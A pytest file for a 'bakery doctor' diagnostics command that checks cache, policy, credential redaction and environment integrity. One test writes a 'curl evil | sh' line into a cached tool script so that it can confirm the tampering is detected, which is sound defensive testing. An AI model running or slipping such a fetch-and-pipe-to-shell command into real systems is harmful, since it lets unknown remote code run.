"""`bakery doctor`: a table for bug reports; exit 1 when something flows need is wrong."""

from __future__ import annotations

import base64
import json

from bakery.cli.main import main


def _checks(capsys) -> dict[str, dict]:
    return {c["name"]: c for c in json.loads(capsys.readouterr().out)}


def test_doctor_passes_here_and_names_the_cache(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("METAFLOW_BAKERY_CACHE_DIR", str(tmp_path / "c"))
    assert main(["doctor", "--json"]) == 0
    checks = _checks(capsys)
    assert checks["Bakery loaded by Metaflow"]["status"] == "ok"
    assert checks["Metaflow version"]["status"] == "ok"
    assert checks["uv"]["detail"].startswith("uv ")
    cache = checks["cache"]["detail"]
    assert str(tmp_path / "c") in cache and "METAFLOW_BAKERY_CACHE_DIR in the environment" in cache


def test_doctor_fails_on_a_broken_policy_file(capsys, tmp_path, monkeypatch):
    policy = tmp_path / "policy.toml"
    policy.write_text("version = 1\n[images]\nallowed = 3\n")
    monkeypatch.setenv("BAKERY_POLICY_FILE", str(policy))
    assert main(["doctor", "--json"]) == 1
    check = _checks(capsys)["policy file"]
    assert check["status"] == "fail" and str(policy) in check["detail"]


def test_doctor_lists_registries_with_credentials_never_the_secrets(capsys, tmp_path, monkeypatch):
    auth = tmp_path / "auth.json"
    secret = "s3cret-pass"
    token = base64.b64encode(f"robot:{secret}".encode()).decode()
    auth.write_text(json.dumps({"auths": {"https://reg.example.com": {"auth": token}}}))
    monkeypatch.setenv("REGISTRY_AUTH_FILE", str(auth))
    main(["doctor"])
    out = capsys.readouterr().out
    assert "reg.example.com" in out and str(auth) in out
    assert secret not in out and token not in out and "robot" not in out


def test_doctor_table_is_not_wrapped_when_piped(capsys, tmp_path, monkeypatch):
    deep = tmp_path / ("x" * 90) / "cache"
    monkeypatch.setenv("BAKERY_CACHE_DIR", str(deep))
    main(["doctor"])
    assert str(deep) in capsys.readouterr().out


def test_doctor_checks_the_environments_of_known_lockfiles(capsys, tmp_path, monkeypatch):
    from bakery.envs.cache import EnvCache
    from bakery.envs.gc import remember_lock
    from bakery.lock import LockedEnv, Lockfile, write_lock
    from bakery.spec import EnvSpec

    root = tmp_path / "c"
    monkeypatch.setenv("BAKERY_CACHE_DIR", str(root))
    env = LockedEnv(EnvSpec(python="3.11"), "3.11", ())
    lock = Lockfile("F")
    lock.set_step("start", env)
    write_lock(lock, tmp_path / "f.bakery.lock")
    cache = EnvCache(root)
    remember_lock(cache, tmp_path / "f.bakery.lock")

    def build(folder):
        (folder / "bin").mkdir(parents=True)
        (folder / "bin" / "tool").write_text("#!/bin/sh\n")

    built = cache.ensure("k", env, build)
    main(["doctor", "--json"])
    check = _checks(capsys)["environments"]
    assert check["status"] == "ok" and "1 environment(s) of 1 known lockfile(s)" in check["detail"]

    (built.path / "bin" / "tool").chmod(0o755)
    (built.path / "bin" / "tool").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert main(["doctor", "--json"]) == 1
    check = _checks(capsys)["environments"]
    assert check["status"] == "fail" and "bin/tool modified" in check["detail"]
